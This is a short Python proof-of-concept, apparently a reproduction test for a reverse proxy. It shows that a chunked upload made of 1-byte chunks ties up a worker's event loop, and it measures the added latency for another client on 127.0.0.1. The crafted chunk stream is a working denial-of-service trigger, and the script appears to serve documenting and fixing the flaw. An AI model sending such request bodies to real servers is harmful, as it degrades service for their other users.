"""A request body of 1-byte chunks costs the worker ~0.1 s of CPU per 256 KiB read
(worker.framing.ChunkedFraming scans line by line in Python), all in one loop turn: the
other connections of the worker wait meanwhile.  Victim latency measured while one client
uploads such a body (2 x 256 KiB writes)."""
import socket, threading, time
from h import Backend, recv_head, start_proxy

def script(s, rec):
    buf = bytearray()
    try:
        while True:
            head, buf = recv_head(s, rec, buf)
            if b"/api" in head.split(b"\r\n")[0]:
                s.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
            else:                 # the upload: swallow everything
                while s.recv(1 << 20):
                    pass
                return
    except Exception:
        return

be = Backend(script)
p = start_proxy([{"path": "/", "to": f"http://127.0.0.1:{be.port}/"}], workers=1)

def one_request(s):
    t = time.time()
    s.sendall(b"GET /api HTTP/1.1\r\nHost: a\r\n\r\n")
    d = b""
    while not d.endswith(b"ok"):
        d += s.recv(1000)
    return (time.time() - t) * 1000

victim = socket.create_connection(("127.0.0.1", p.port))
victim.settimeout(10)
print("victim latency before: %.1f ms" % one_request(victim))
print("victim latency idle:   %.1f ms" % one_request(victim))
a = socket.create_connection(("127.0.0.1", p.port))
a.sendall(b"POST /upload HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n")
time.sleep(0.2)
chunk = b"1\r\na\r\n" * (256 * 1024 // 6)
lats = []
for i in range(2):
    a.sendall(chunk)
    time.sleep(0.01)
    lats.append(one_request(victim))
print("victim latency while a 256 KiB write of 1-byte chunks is scanned: %s ms"
      % ", ".join("%.1f" % x for x in lats))
a.close()
